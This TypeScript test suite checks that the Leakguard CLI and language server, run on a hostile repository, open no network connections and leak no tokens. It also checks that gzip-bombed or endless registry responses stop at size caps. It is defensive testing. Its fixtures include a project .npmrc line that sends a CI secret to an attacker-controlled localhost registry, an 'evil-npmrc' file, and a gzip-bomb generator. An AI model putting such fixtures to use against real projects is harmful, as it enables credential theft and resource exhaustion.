/**
 * Issue #15 item 1: nothing inside a workspace may switch the network on or choose the credentials.
 * A listener on 127.0.0.1 plays the attacker's registry; the built CLI (and language server) run on
 * the exact repository: publishConfig.registry → the listener, a project .npmrc token line
 * `${LG_FAKE_CI_SECRET}`, and .leakguardrc.json enabling publish-size-anomaly.
 */
import * as assert from 'node:assert/strict';
import * as fs from 'node:fs';
import * as http from 'node:http';
import * as os from 'node:os';
import * as path from 'node:path';
import * as zlib from 'node:zlib';
import { spawn } from 'node:child_process';
import { createHash } from 'node:crypto';
import { pack as tarPack } from 'tar-stream';
import { writeTree } from '../helpers/rule-tester';
import { startServer, killAll } from '../helpers/lsp-client';
import { DEFAULT_LIMITS } from '../../server/src/engine/registry/client';
import { runCliAsync } from '../helpers/run-cli';
import { PEAK_RSS_MIB_EXPR } from '../helpers/peak-rss';

const ROOT = path.resolve(__dirname, '../..');
const CLI = path.join(ROOT, 'dist/cli.js');
const NAME = 'victim-pkg';
// Assembled at run time: the repository itself holds no token.
const CI_SECRET = ['ghp', '_', 'Zq'.repeat(18)].join('');
const USER_TOKEN = ['user', 'token', 'x'.repeat(20)].join('-');

interface Seen {
  connections: number;
  requests: Array<{ url: string; authorization?: string }>;
}

interface Attacker extends Seen {
  url: string;
  port: number;
  /** What to answer; default: a packument and a small tarball. */
  handler?: (req: http.IncomingMessage, res: http.ServerResponse) => void;
  reset(): void;
  close(): Promise<void>;
}

async function tgz(files: Record<string, string>): Promise<Buffer> {
  const p = tarPack();
  for (const [name, body] of Object.entries(files)) p.entry({ name: `package/${name}` }, body);
  p.finalize();
  const chunks: Buffer[] = [];
  for await (const c of p) chunks.push(c as Buffer);
  return zlib.gzipSync(Buffer.concat(chunks));
}

/** `n` gzip members of 64 MiB of zeros, concatenated: about 64 kB each, inflating to n × 64 MiB. */
function gzipBomb(n: number): Buffer {
  const member = zlib.gzipSync(Buffer.alloc(64 * 2 ** 20), { level: 9 });
  return Buffer.concat(Array.from({ length: n }, () => member));
}

async function startAttacker(): Promise<Attacker> {
  const tarball = await tgz({ 'package.json': JSON.stringify({ name: NAME, version: '0.9.0' }), 'index.js': '1' });
  const integrity = `sha512-${createHash('sha512').update(tarball).digest('base64')}`;
  const a = { connections: 0, requests: [] } as unknown as Attacker;
  const server = http.createServer((req, res) => {
    a.requests.push({ url: req.url ?? '', authorization: req.headers.authorization });
    if (a.handler) return a.handler(req, res);
    if (req.url === `/${NAME}`) {
      res.setHeader('content-type', 'application/json');
      res.end(JSON.stringify({ name: NAME, 'dist-tags': { latest: '0.9.0' }, versions: { '0.9.0': { dist: { integrity, tarball: `${a.url}${NAME}/-/${NAME}-0.9.0.tgz` } } } }));
    } else if (req.url === `/${NAME}/-/${NAME}-0.9.0.tgz`) res.end(tarball);
    else {
      res.statusCode = 404;
      res.end('{}');
    }
  });
  server.on('connection', () => a.connections++);
  await new Promise<void>((r) => server.listen(0, '127.0.0.1', r));
  a.port = (server.address() as { port: number }).port;
  a.url = `http://127.0.0.1:${a.port}/`;
  a.reset = () => {
    a.connections = 0;
    a.requests = [];
    a.handler = undefined;
  };
  a.close = () => new Promise<void>((r) => {
    server.closeAllConnections();
    server.close(() => r());
  });
  return a;
}

/** The repository: every piece a hostile repo controls points at the attacker. */
function hostileRepo(att: Attacker, extra: Record<string, string> = {}): string {
  return writeTree({
    'package.json': JSON.stringify({ name: NAME, version: '1.0.0', main: 'index.js', publishConfig: { registry: att.url } }, null, 2),
    'index.js': 'module.exports = 1;\n',
    '.npmrc': `//127.0.0.1:${att.port}/:_authToken=\${LG_FAKE_CI_SECRET}\n`,
    '.leakguardrc.json': JSON.stringify({ rules: { 'publish-size-anomaly': 'warning' } }),
    ...extra,
  });
}

/** A clean environment: no npm settings inherited, an empty HOME, the "CI secret" set. */
function cleanEnv(extra: NodeJS.ProcessEnv = {}): NodeJS.ProcessEnv {
  const env: NodeJS.ProcessEnv = {};
  for (const [k, v] of Object.entries(process.env)) if (!/^npm_config_|^NPM_CONFIG_|TOKEN/i.test(k)) env[k] = v;
  const home = fs.mkdtempSync(path.join(os.tmpdir(), 'lg-home-'));
  return { ...env, HOME: home, USERPROFILE: home, LG_FAKE_CI_SECRET: CI_SECRET, NO_COLOR: '1', ...extra };
}

const run = runCliAsync;

describe('security: the network (issue #15 item 1)', function () {
  this.timeout(120_000);
  let att: Attacker;
  before(async () => {
    if (!fs.existsSync(CLI)) throw new Error('dist/cli.js is missing: run "npm run build" first');
    att = await startAttacker();
  });
  beforeEach(() => att.reset());
  afterEach(() => killAll());
  after(async () => att?.close());

  it('the exact repro: `leakguard check .` opens no connection at all (and says why the rule is skipped)', async () => {
    const dir = hostileRepo(att);
    const r = await run(['check', '.', '--format', 'json', '--fail-on', 'never'], dir, cleanEnv());
    assert.equal(r.code, 0, r.stderr);
    assert.equal(att.connections, 0, JSON.stringify(att.requests));
    assert.match(r.stderr, /publish-size-anomaly is enabled in the configuration but asks a registry only with --registry-check/);
    assert.ok(!(r.stdout + r.stderr).includes(CI_SECRET));
  });

  it('nor do `baseline`, `check --fix`, `pack` of the repo\'s tarball, or --rule publish-size-anomaly=warning', async () => {
    const dir = hostileRepo(att);
    const env = cleanEnv();
    await run(['baseline', '.'], dir, env);
    await run(['check', '.', '--fix', '--fail-on', 'never'], dir, env);
    await run(['check', '.', '--rule', 'publish-size-anomaly=warning', '--fail-on', 'never'], dir, env);
    fs.writeFileSync(path.join(dir, 'victim.tgz'), await tgz({ 'package.json': JSON.stringify({ name: NAME, version: '1.0.0', publishConfig: { registry: att.url } }), '.leakguardrc.json': JSON.stringify({ rules: { 'publish-size-anomaly': 'warning' } }), 'index.js': '1' }));
    await run(['pack', 'victim.tgz', '--fail-on', 'never'], dir, env);
    assert.equal(att.connections, 0, JSON.stringify(att.requests));
  });

  it('the language server on the same folder opens no connection', async () => {
    const dir = hostileRepo(att);
    const { client } = await startServer(dir, { env: cleanEnv() });
    await client.analysed();
    const uri = client.open(path.join(dir, 'package.json'), 'json');
    await client.waitFor(uri, () => true);
    await client.shutdown();
    assert.equal(att.connections, 0, JSON.stringify(att.requests));
  });

  it('with --registry-check the registry is asked, but no token from the project .npmrc or the environment is sent', async () => {
    const dir = hostileRepo(att);
    const r = await run(['check', '.', '--registry-check', '--format', 'json', '--fail-on', 'never'], dir, cleanEnv({ NPM_TOKEN: CI_SECRET, NODE_AUTH_TOKEN: CI_SECRET }));
    assert.equal(r.code, 0, r.stderr);
    assert.ok(att.requests.some((q) => q.url === `/${NAME}`), 'the packument was asked for');
    assert.deepEqual(att.requests.filter((q) => q.authorization !== undefined), []);
    assert.doesNotMatch(r.stderr, /asks a registry only with/);
  });

  it('`diff` sends no project-.npmrc token either', async () => {
    const dir = hostileRepo(att);
    const r = await run(['diff', '.'], dir, cleanEnv());
    assert.ok([0, 1].includes(r.code as number), r.stderr);
    assert.ok(att.requests.length >= 2, 'packument and tarball');
    assert.deepEqual(att.requests.filter((q) => q.authorization !== undefined), []);
  });

  it('the user\'s own .npmrc token goes to its registry only (positive control, other registry, file inside the workspace)', async () => {
    const dir = hostileRepo(att);
    const userDir = fs.mkdtempSync(path.join(os.tmpdir(), 'lg-user-'));
    const mine = path.join(userDir, 'npmrc');
    fs.writeFileSync(mine, `//127.0.0.1:${att.port}/:_authToken=${USER_TOKEN}\n`);
    await run(['diff', '.'], dir, cleanEnv({ NPM_CONFIG_USERCONFIG: mine }));
    assert.ok(att.requests.length >= 2);
    assert.ok(att.requests.every((q) => q.authorization === `Bearer ${USER_TOKEN}`), JSON.stringify(att.requests));

    att.reset();
    fs.writeFileSync(mine, `//127.0.0.1:${att.port + 1}/:_authToken=${USER_TOKEN}\n//127.0.0.1:${att.port}/other/:_authToken=${USER_TOKEN}\n`);
    await run(['diff', '.'], dir, cleanEnv({ NPM_CONFIG_USERCONFIG: mine }));
    assert.ok(att.requests.length >= 2);
    assert.deepEqual(att.requests.filter((q) => q.authorization !== undefined), [], 'a token for another registry (or a deeper path) is not sent');

    // npm exports a project .npmrc `userconfig=` to scripts: a "user" file inside the repo is refused.
    att.reset();
    fs.writeFileSync(path.join(dir, 'evil-npmrc'), `//127.0.0.1:${att.port}/:_authToken=\${LG_FAKE_CI_SECRET}\n`);
    const r = await run(['diff', '.'], dir, cleanEnv({ npm_config_userconfig: path.join(dir, 'evil-npmrc') }));
    assert.match(r.stderr, /lies inside the analysed folder; its tokens are not used/);
    assert.deepEqual(att.requests.filter((q) => q.authorization !== undefined), []);
  });

  it('`audit` run inside a hostile repo: no project token, the cache goes to the user cache dir, nothing written in the repo', async () => {
    const dir = hostileRepo(att);
    const before = fs.readdirSync(dir).sort();
    const env = cleanEnv();
    const r = await run(['audit', NAME, '--registry', att.url, '--format', 'json'], dir, env);
    assert.ok([0, 1].includes(r.code as number), r.stderr);
    assert.equal(JSON.parse(r.stdout).versions[0].status, 'audited');
    assert.ok(att.requests.length >= 2);
    assert.deepEqual(att.requests.filter((q) => q.authorization !== undefined), []);
    assert.deepEqual(fs.readdirSync(dir).sort(), before);
    assert.ok(fs.existsSync(path.join(env.HOME as string, '.cache', 'leakguard', 'tarballs')), 'default cache under ~/.cache/leakguard');
  });

  /** Runs registry-client in a child process and returns its error and peak RSS (MB). */
  function probe(code: string): Promise<{ error?: string; maxRssMb: number }> {
    const script = `
      const { createRegistryClient } = require(${JSON.stringify(path.join(ROOT, 'server/src/engine/registry/client.ts'))});
      (async () => { let error; try { ${code} } catch (e) { error = e.message; }
        process.stdout.write(JSON.stringify({ error, maxRssMb: ${PEAK_RSS_MIB_EXPR} })); })();`;
    return new Promise((resolve, reject) => {
      const c = spawn(process.execPath, ['-r', 'tsx/cjs', '-e', script], { cwd: ROOT, env: cleanEnv() });
      let out = '';
      let err = '';
      c.stdout.on('data', (d: Buffer) => (out += d.toString()));
      c.stderr.on('data', (d: Buffer) => (err += d.toString()));
      c.on('close', () => {
        try {
          resolve(JSON.parse(out));
        } catch {
          reject(new Error(`probe failed: ${out}${err}`));
        }
      });
    });
  }

  it('a gzip-bombed packument (content-encoding gzip, 1 GiB inflated) stops at the cap with a clear error', async () => {
    const bomb = gzipBomb(16);
    att.handler = (_req, res) => {
      res.setHeader('content-type', 'application/json');
      res.setHeader('content-encoding', 'gzip');
      res.end(bomb);
    };
    const r = await probe(`await createRegistryClient().fetchPackument('victim-pkg', ${JSON.stringify(att.url)});`);
    assert.match(r.error ?? '', /packument for victim-pkg that is larger than the 134\.2 MB Leakguard accepts; stopped reading/);
    assert.ok(r.maxRssMb < 600, `peak RSS ${r.maxRssMb} MB`);
  });

  it('a gzip-bomb tarball (valid integrity) stops at the unpacked cap with a clear error', async () => {
    const bomb = gzipBomb(4);
    const integrity = `sha512-${createHash('sha512').update(bomb).digest('base64')}`;
    att.handler = (req, res) => {
      if (req.url === `/${NAME}`) res.end(JSON.stringify({ name: NAME, 'dist-tags': { latest: '0.9.0' }, versions: { '0.9.0': { dist: { integrity, tarball: `${att.url}t.tgz` } } } }));
      else res.end(bomb);
    };
    const r = await probe(`await createRegistryClient({ limits: { unpackedBytes: 64 * 2 ** 20 } }).fetchPublished('victim-pkg', ${JSON.stringify(att.url)});`);
    assert.match(r.error ?? '', /victim-pkg-0\.9\.0\.tgz: the tarball unpacks to more than 67\.1 MB; stopped reading/);
    assert.ok(r.maxRssMb < 400, `peak RSS ${r.maxRssMb} MB`);
    assert.ok(DEFAULT_LIMITS.unpackedBytes <= 512 * 2 ** 20 && DEFAULT_LIMITS.tarballBytes <= 256 * 2 ** 20);
  });

  it('an endless tarball body stops at the download cap', async () => {
    att.handler = (req, res) => {
      if (req.url === `/${NAME}`) return res.end(JSON.stringify({ name: NAME, 'dist-tags': { latest: '0.9.0' }, versions: { '0.9.0': { dist: { tarball: `${att.url}t.tgz` } } } }));
      const chunk = Buffer.alloc(1 << 20, 1);
      const pump = () => {
        while (res.write(chunk));
        res.once('drain', pump);
      };
      res.on('error', () => undefined);
      pump();
    };
    const r = await probe(`await createRegistryClient({ limits: { tarballBytes: 32 * 2 ** 20 } }).fetchPublished('victim-pkg', ${JSON.stringify(att.url)});`);
    assert.match(r.error ?? '', /victim-pkg@0\.9\.0: the tarball is larger than the 33\.6 MB Leakguard accepts/);
  });
});
